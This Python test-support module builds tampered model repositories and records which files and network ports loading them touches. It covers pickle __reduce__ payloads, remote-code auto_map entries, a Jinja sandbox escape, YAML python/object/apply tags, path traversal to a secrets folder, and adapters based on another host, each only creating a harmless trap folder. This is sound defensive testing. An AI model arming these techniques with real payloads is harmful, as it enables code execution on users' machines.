"""Runs and model repositories as an attacker would publish them, and a record of what opening them touches.

A kind changes a copy of a finished run. Where it needs them, it points at a `trap`, a folder that exists only if code
has run, at a folder with `secrets`, which nothing may open, and at a host that is not the Hub.
"""

import json
import os
import pickle
import struct
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from safetensors.torch import load_file, save_file

CANARY = "the content of a secret file"


@dataclass
class Attack:
    """A copy of a run to change, and what the changes point at."""

    run: Path
    trap: Path
    secrets: Path
    host: str
    """The address of another host than the Hub."""

    @property
    def model(self) -> Path:
        return self.run / "model"

    @property
    def weights(self) -> Path:
        return self.model / "model.safetensors"

    def pickle_of_trap(self) -> bytes:
        return pickle.dumps(Payload(self.trap))

    def code_of_trap(self) -> str:
        return f"import os\nos.makedirs({str(self.trap)!r}, exist_ok=True)\n"

    def update(self, name: str, **changes: Any) -> None:
        """Set keys of a JSON file of the model."""
        file = self.model / name
        content = json.loads(file.read_text(encoding="utf-8")) if file.is_file() else {}
        file.write_text(json.dumps({**content, **changes}), encoding="utf-8")

    def write_secrets(self) -> None:
        """Write a file of each kind that would be read, if a path led here."""
        self.secrets.mkdir()
        for name in ("train.tsv", "validation.tsv", "test.tsv"):
            (self.secrets / name).write_text(f"source\ttarget\n{CANARY}\tx\n", encoding="utf-8")
        for file in [*self.model.iterdir()]:
            if file.is_file():
                (self.secrets / file.name).write_bytes(file.read_bytes())


class Payload:
    """Makes a folder when it is unpickled."""

    def __init__(self, folder: Path):
        self.folder = folder

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.folder),)


# ---- weights ---------------------------------------------------------------------------------------------------------


def pickled_weights(attack: Attack) -> None:
    attack.weights.unlink()
    for name in ("pytorch_model.bin", "model.bin", "training_args.bin"):
        (attack.model / name).write_bytes(attack.pickle_of_trap())


def pickle_named_safetensors(attack: Attack) -> None:
    attack.weights.write_bytes(attack.pickle_of_trap())


def index_of_pickles(attack: Attack) -> None:
    names = load_file(attack.weights)
    pickled_weights(attack)
    attack.update("model.safetensors.index.json", metadata={}, weight_map=dict.fromkeys(names, "pytorch_model.bin"))


def index_out_of_the_folder(attack: Attack) -> None:
    names = load_file(attack.weights)
    attack.weights.unlink()
    outside = os.path.relpath(attack.secrets / "model.safetensors", attack.model)
    attack.update("model.safetensors.index.json", metadata={}, weight_map=dict.fromkeys(names, outside))


def huge_header(attack: Attack) -> None:
    attack.weights.write_bytes(struct.pack("<Q", 2**62) + attack.weights.read_bytes()[8:])


# ---- code ------------------------------------------------------------------------------------------------------------

CLASSES = ("AutoConfig", "AutoModel", "AutoModelForSeq2SeqLM", "AutoTokenizer", "AutoProcessor", "AutoImageProcessor")


def auto_map_in(name: str, model_type: str | None = None, prefix: str = "") -> Callable[[Attack], None]:
    """Classes of code in the folder, or with a prefix of another repository, named by a file."""

    def change(attack: Attack) -> None:
        (attack.model / "trap.py").write_text(attack.code_of_trap() + "class T: pass\n", encoding="utf-8")
        for known in attack.model.glob("*.py"):  # those of kit, too
            known.write_text(attack.code_of_trap() + known.read_text(encoding="utf-8"), encoding="utf-8")
        named: dict[str, Any] = dict.fromkeys(CLASSES, f"{prefix}trap.T")
        attack.update(name, auto_map={**named, "AutoTokenizer": [f"{prefix}trap.T"] * 2})
        if model_type is not None:
            attack.update("config.json", model_type=model_type)
        if name == "tokenizer_config.json":
            attack.update(name, tokenizer_class="TrapTokenizer")

    return change


def custom_pipelines(attack: Attack) -> None:
    (attack.model / "trap.py").write_text(attack.code_of_trap() + "class T: pass\n", encoding="utf-8")
    pipelines = {"translation": {"impl": "trap.T", "pt": ["AutoModelForSeq2SeqLM"], "tf": []}}
    attack.update("config.json", custom_pipelines=pipelines)


def custom_generate(attack: Attack) -> None:
    folder = attack.model / "custom_generate"
    folder.mkdir()
    (folder / "generate.py").write_text(attack.code_of_trap() + "def generate(*a, **k): pass\n", encoding="utf-8")
    attack.update("generation_config.json", custom_generate=str(attack.model))


def auto_class_as_tokenizer(attack: Attack) -> None:
    auto_map_in("config.json", model_type="trap")(attack)
    attack.update("tokenizer_config.json", tokenizer_class="AutoModel")


def jinja(attack: Attack) -> None:
    template = f"{{{{ cycler.__init__.__globals__.os.mkdir({str(attack.trap)!r}) }}}}"
    attack.update("tokenizer_config.json", chat_template=template)
    (attack.model / "chat_template.jinja").write_text(template, encoding="utf-8")


def kernel(attack: Attack) -> None:
    attack.update("config.json", attn_implementation="mallory/kernel", _attn_implementation="mallory/kernel")


# ---- text ------------------------------------------------------------------------------------------------------------


def tags_in_recipe(attack: Attack) -> None:
    file = attack.run / "recipe.yaml"
    tag = f"hub: !!python/object/apply:os.mkdir [{attack.trap}]\n"
    file.write_text(file.read_text(encoding="utf-8").partition("hub:")[0] + tag, encoding="utf-8")


def tags_in_card(attack: Attack) -> None:
    text = f"---\nlicense: !!python/object/apply:os.mkdir [{attack.trap}]\n---\n"
    for folder in (attack.run, attack.model):
        (folder / "README.md").write_text(text, encoding="utf-8")


def other_files_of_the_tokenizer(attack: Attack) -> None:
    names = ("vocab_file", "tokenizer_file", "merges_file", "added_tokens_file", "special_tokens_map_file", "sp_model")
    outside = {name: str(attack.secrets / "tokenizer.json") for name in names}
    attack.update("tokenizer_config.json", **outside, name_or_path=str(attack.secrets))


def in_recipe(key: str, place: str) -> Callable[[Attack], None]:
    """A path or an address in the recipe, with the names of what an attack points at."""

    def change(attack: Attack) -> None:
        from kit import load_recipe

        file = attack.run / "recipe.yaml"
        value = place.format(secrets=attack.secrets, host=attack.host)
        overrides = ["data.fingerprints=null", "data.languages=null", "data.sizes=null", "eval.group_by=[]"]
        if key != "data.path":
            overrides = ["tokenizer={}", "model={}"] if key == "model.pretrained" else ["tokenizer={}"]
        file.write_text(load_recipe(file, [*overrides, f"{key}={value}"]).to_yaml(), encoding="utf-8")

    return change


def adapter_of(base: str) -> Callable[[Attack], None]:
    """An adapter instead of a model, on top of a base that is a path, an address or another repository."""

    def change(attack: Attack) -> None:
        (attack.model / "config.json").rename(attack.model / "model_config.json")
        _, tensor = load_file(attack.weights).popitem()
        attack.weights.unlink()
        save_file({"base_model.model.x.lora_A.weight": tensor}, attack.model / "adapter_model.safetensors")
        name = base.format(secrets=attack.secrets, host=attack.host)
        attack.update(
            "adapter_config.json", peft_type="LORA", task_type="SEQ_2_SEQ_LM", r=2, target_modules=["q_proj"],
            base_model_name_or_path=name, auto_mapping={"base_model_class": "T", "parent_library": "trap"},
        )  # fmt: skip

    return change


KINDS: dict[str, Callable[[Attack], None]] = {
    "pickled weights": pickled_weights,
    "a pickle named safetensors": pickle_named_safetensors,
    "an index of pickles": index_of_pickles,
    "an index out of the folder": index_out_of_the_folder,
    "a huge header": huge_header,
    "auto_map in config.json": auto_map_in("config.json"),
    "auto_map of an unknown type": auto_map_in("config.json", model_type="trap"),
    "auto_map of another repository": auto_map_in("config.json", model_type="trap", prefix="mallory/code--"),
    "auto_map in tokenizer_config.json": auto_map_in("tokenizer_config.json"),
    "auto_map in generation_config.json": auto_map_in("generation_config.json"),
    "auto_map in preprocessor_config.json": auto_map_in("preprocessor_config.json"),
    "auto_map in processor_config.json": auto_map_in("processor_config.json"),
    "an Auto class as tokenizer": auto_class_as_tokenizer,
    "custom pipelines": custom_pipelines,
    "custom generate": custom_generate,
    "Jinja": jinja,
    "a kernel": kernel,
    "YAML tags in the recipe": tags_in_recipe,
    "YAML tags in the card": tags_in_card,
    "other files of the tokenizer": other_files_of_the_tokenizer,
    "an adapter of a base on another host": adapter_of("{host}/mallory/base"),
    "an adapter of a base with code": adapter_of("mallory/base"),
}
"""Every kind that can be in a folder or in a repository on the Hub."""

ON_HUB: dict[str, Callable[[Attack], None]] = {
    "absolute data": in_recipe("data.path", "{secrets}"),
    "data above": in_recipe("data.path", "../secrets"),
    "data on another host": in_recipe("data.path", "{host}/data.tsv"),
    "an absolute model": in_recipe("model.pretrained", "{secrets}"),
    "an absolute tokenizer": in_recipe("tokenizer.pretrained", "{secrets}"),
    "an adapter of a local base": adapter_of("{secrets}"),
    "an adapter of a base above": adapter_of("../secrets"),
}
"""Paths of this machine: those in a local run are the user's own."""


# ---- what is touched -------------------------------------------------------------------------------------------------


@dataclass
class Touched:
    """What a block of code opened and where it connected to."""

    files: list[str] = field(default_factory=list)
    ports: set[int] = field(default_factory=set)


_observers: list[Touched] = []


def _observe(event: str, arguments: tuple[Any, ...]) -> None:
    for touched in _observers:
        if event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
            touched.files.append(os.path.abspath(os.fsdecode(arguments[0])))
        elif event == "socket.connect" and isinstance(arguments[1], tuple):
            touched.ports.add(arguments[1][1])


@contextmanager
def observed() -> Iterator[Touched]:
    """Record what Python code of this process opens and connects to within the block."""
    if not hasattr(sys, "_kit_observer"):  # an audit hook cannot be removed
        sys.addaudithook(_observe)
        sys._kit_observer = True  # type: ignore[attr-defined]
    touched = Touched()
    _observers.append(touched)
    try:
        yield touched
    finally:
        _observers.remove(touched)


def tree(folder: Path) -> dict[Path, int]:
    """Every file below a folder, with the time of its last change."""
    return {path: path.lstat().st_mtime_ns for path in folder.rglob("*") if not path.is_dir()}
